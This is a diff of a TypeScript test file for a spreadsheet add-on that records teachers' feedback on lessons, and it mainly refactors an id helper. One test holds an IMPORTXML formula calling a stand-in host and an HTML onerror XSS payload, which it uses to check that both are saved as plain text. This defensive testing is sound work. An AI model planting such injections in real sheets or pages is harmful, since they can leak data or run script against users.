@@ -14,16 +14,6 @@ function setUp(lessons = 4) {
   return r;
 }
 
-function ids(r: Classroom, studentIndex: number, lessonIndex: number) {
-  const overview = r.sidebar<{ students: { id: string }[]; lessons: { id: string }[] }>(
-    'getClassOverview',
-  );
-  return {
-    studentId: overview.students[studentIndex]!.id,
-    lessonId: overview.lessons[lessonIndex]!.id,
-  };
-}
-
 function save(r: Classroom, input: object): Lesson {
   const panel = r.sidebar<FocusPanel>('saveFeedback', [input]);
   if (panel.kind !== 'lesson') throw new Error(`Not a lesson: ${JSON.stringify(panel)}`);
@@ -51,7 +41,7 @@ describe('saving feedback', () => {
   test('a comment and a recording: the dated cell with its Listen link, and the note', () => {
     const r = setUp();
     const panel = save(r, {
-      ...ids(r, 0, 1),
+      ...r.ids(0, 1),
       comment: 'Check step 2 again',
       link: 'https://vocaroo.com/abc123',
     });
@@ -77,7 +67,7 @@ describe('saving feedback', () => {
 
   test('a link only, such as a Google Drive recording', () => {
     const r = setUp();
-    save(r, { ...ids(r, 1, 0), link: 'https://drive.google.com/file/d/abc/view' });
+    save(r, { ...r.ids(1, 0), link: 'https://drive.google.com/file/d/abc/view' });
     const cell = feedbackCell(r, 'Ben Student2', 5);
     expect(cell.text).toBe('2026-09-14 ▶ Listen');
     expect(cell.runs).toEqual([
@@ -89,9 +79,9 @@ describe('saving feedback', () => {
 
   test('two saves: the newest in the cell, the history newest first in the note', () => {
     const r = setUp();
-    save(r, { ...ids(r, 0, 0), comment: 'Show your work', link: 'https://mote.example/1' });
+    save(r, { ...r.ids(0, 0), comment: 'Show your work', link: 'https://mote.example/1' });
     r.emulator.clock.advanceDays(2);
-    const panel = save(r, { ...ids(r, 0, 0), comment: 'Much better!' });
+    const panel = save(r, { ...r.ids(0, 0), comment: 'Much better!' });
     const cell = feedbackCell(r, 'Ava Student1', 5);
     expect(cell.text).toBe('2026-09-16 Much better!');
     expect(cell.runs).toEqual([['2026-09-16 Much better!', null]]);
@@ -112,7 +102,7 @@ describe('saving feedback', () => {
       now: '2026-09-15T05:30:00Z',
     });
     r.setUp();
-    save(r, { ...ids(r, 0, 0), comment: 'Good' });
+    save(r, { ...r.ids(0, 0), comment: 'Good' });
     expect(feedbackCell(r, 'Ava Student1', 5).text).toBe('2026-09-14 Good');
   });
 
@@ -120,7 +110,7 @@ describe('saving feedback', () => {
     const r = setUp();
     const handWritten = 'Spoke with her mum.\n\nNeeds a quiet corner.';
     r.sheet('Ava Student1').getRange('I5').setNote(handWritten);
-    const panel = save(r, { ...ids(r, 0, 0), comment: 'Great start' });
+    const panel = save(r, { ...r.ids(0, 0), comment: 'Great start' });
     expect(feedbackCell(r, 'Ava Student1', 5).note).toBe(
       `2026-09-14: Great start\n\n${handWritten}`,
     );
@@ -133,7 +123,7 @@ describe('saving feedback', () => {
   test('feedback typed into the cell by hand is kept in the note, not overwritten', () => {
     const r = setUp();
     r.sheet('Ava Student1').getRange('I5').setValue('see me at lunch');
-    save(r, { ...ids(r, 0, 0), comment: 'Nice work' });
+    save(r, { ...r.ids(0, 0), comment: 'Nice work' });
     expect(feedbackCell(r, 'Ava Student1', 5).note).toBe(
       '2026-09-14: Nice work\n\nsee me at lunch',
     );
@@ -141,15 +131,15 @@ describe('saving feedback', () => {
 
   test('saving unticks Seen; the student ticks it', () => {
     const r = setUp();
-    save(r, { ...ids(r, 0, 0), comment: 'First' });
+    save(r, { ...r.ids(0, 0), comment: 'First' });
     expect(feedbackCell(r, 'Ava Student1', 5)).toMatchObject({
       seen: false,
       seenIsCheckbox: 'CHECKBOX',
     });
     const tick = r.emulator.setCheckbox(r.doc, r.students[0]!, "'Ava Student1'!H5", true);
     expect(tick.applied).toBe(true);
-    expect(r.sidebar<Lesson>('getFocus', [ids(r, 0, 0)]).seen).toBe(true);
-    const panel = save(r, { ...ids(r, 0, 0), comment: 'Second' });
+    expect(r.sidebar<Lesson>('getFocus', [r.ids(0, 0)]).seen).toBe(true);
+    const panel = save(r, { ...r.ids(0, 0), comment: 'Second' });
     expect(feedbackCell(r, 'Ava Student1', 5).seen).toBe(false);
     expect(panel.seen).toBe(false);
   });
@@ -157,13 +147,13 @@ describe('saving feedback', () => {
   test('a comment that looks like a formula stays text, in the cell and the note', () => {
     const r = setUp();
     const comment = '=IMPORTXML("https://evil.example","//a")';
-    save(r, { ...ids(r, 0, 0), comment });
+    save(r, { ...r.ids(0, 0), comment });
     const cell = feedbackCell(r, 'Ava Student1', 5);
     expect(cell.formula).toBe('');
     expect(cell.text).toBe(`2026-09-14 ${comment}`);
     expect(cell.note).toBe(`2026-09-14: ${comment}`);
     const html = '<img src=x onerror=alert(1)>';
-    const panel = save(r, { ...ids(r, 0, 1), comment: html });
+    const panel = save(r, { ...r.ids(0, 1), comment: html });
     expect(panel.feedback[0]?.comment).toBe(html);
     expect(feedbackCell(r, 'Ava Student1', 6).text).toBe(`2026-09-14 ${html}`);
   });
@@ -188,25 +178,25 @@ describe('refused, with a message, and nothing written', () => {
     'https://vocaroo.com/a b',
   ])('the link %s', (link) => {
     const r = setUp();
-    save(r, { ...ids(r, 0, 0), comment: 'Earlier feedback', link: 'https://mote.example/1' });
-    expect(refusal(r, { ...ids(r, 0, 0), comment: 'Listen', link })).toBe(
+    save(r, { ...r.ids(0, 0), comment: 'Earlier feedback', link: 'https://mote.example/1' });
+    expect(refusal(r, { ...r.ids(0, 0), comment: 'Listen', link })).toBe(
       'bad-argument: Only a web link starting with https:// (or http://), with no spaces, can be saved, such as a Mote, Vocaroo or Google Drive link. Nothing was saved.',
     );
   });
 
   test('empty feedback, and a comment over 2,000 characters', () => {
     const r = setUp();
-    expect(refusal(r, { ...ids(r, 0, 0), comment: '   ', link: '' })).toBe(
+    expect(refusal(r, { ...r.ids(0, 0), comment: '   ', link: '' })).toBe(
       'bad-argument: The feedback is empty: write a comment or paste a link to a recording.',
     );
-    expect(refusal(r, { ...ids(r, 0, 0), comment: 'a'.repeat(2001) })).toBe(
+    expect(refusal(r, { ...r.ids(0, 0), comment: 'a'.repeat(2001) })).toBe(
       'bad-argument: The comment is 2,001 characters long: keep it to 2,000 or fewer. Nothing was saved.',
     );
   });
 
   test('a student or a lesson not in the class, or a lesson removed from the unit', () => {
     const r = setUp();
-    const { studentId, lessonId } = ids(r, 0, 3);
+    const { studentId, lessonId } = r.ids(0, 3);
     expect(refusal(r, { studentId: 's-nobody', lessonId, comment: 'Hi' })).toBe(
       'bad-argument: That student is not in this class any more. Reload the sidebar.',
     );
@@ -230,10 +220,10 @@ describe('refused, with a message, and nothing written', () => {
     const r = setUp();
     const ss = r.emulator.spreadsheet(r.doc);
     ss.deleteSheet(ss.getSheetByName('Ben Student2')!);
-    expect(refusal(r, { ...ids(r, 1, 0), comment: 'Hello' })).toBe(
+    expect(refusal(r, { ...r.ids(1, 0), comment: 'Hello' })).toBe(
       'bad-argument: Ben Student2\u2019s tab is not up to date: choose Sync class, then save the feedback.',
     );
-    expect(r.sidebar<FocusPanel>('getFocus', [ids(r, 1, 0)])).toMatchObject({
+    expect(r.sidebar<FocusPanel>('getFocus', [r.ids(1, 0)])).toMatchObject({
       kind: 'student',
       message: 'Ben Student2\u2019s tab is missing: choose Sync class to make it again.',
     });
@@ -242,14 +232,14 @@ describe('refused, with a message, and nothing written', () => {
   test('a history that would pass what a note holds is refused, not cut short', () => {
     const r = setUp();
     r.sheet('Ava Student1').getRange('I5').setNote('x'.repeat(49_990));
-    expect(refusal(r, { ...ids(r, 0, 0), comment: 'One more thing' })).toMatch(
+    expect(refusal(r, { ...r.ids(0, 0), comment: 'One more thing' })).toMatch(
       /^bad-argument: This lesson's feedback history is full \(a cell's note holds at most 50,000 characters\)/,
     );
   });
 
   test('a student calling it gets the teachers-only refusal', () => {
     const r = setUp();
-    expect(refusal(r, { ...ids(r, 0, 0), comment: 'I did great' }, r.students[0])).toMatch(
+    expect(refusal(r, { ...r.ids(0, 0), comment: 'I did great' }, r.students[0])).toMatch(
       /^not-a-teacher: Mastery Tracker is for the teachers of this class/,
     );
   });
@@ -318,8 +308,8 @@ describe('Sync keeps feedback on its lesson', () => {
 
   test('lessons added, removed and moved back: text, Listen link, note and Seen box intact', () => {
     const r = setUp();
-    const lesson2 = ids(r, 0, 1);
-    const lesson3 = ids(r, 0, 2);
+    const lesson2 = r.ids(0, 1);
+    const lesson3 = r.ids(0, 2);
     save(r, { ...lesson2, comment: 'Redo question 4', link: 'https://vocaroo.com/l2' });
     r.emulator.clock.advanceDays(1);
     save(r, { ...lesson2, comment: 'Well fixed' });
@@ -371,7 +361,7 @@ describe('Sync keeps feedback on its lesson', () => {
 
   test('a due date changed in Setup rewrites the rows\u2019 statuses, not the feedback', () => {
     const r = setUp();
-    save(r, { ...ids(r, 1, 0), comment: 'Hear this', link: 'https://vocaroo.com/b1' });
+    save(r, { ...r.ids(1, 0), comment: 'Hear this', link: 'https://vocaroo.com/b1' });
     const before = feedbackCell(r, 'Ben Student2', 5);
     r.emulator.type(
       r.doc,
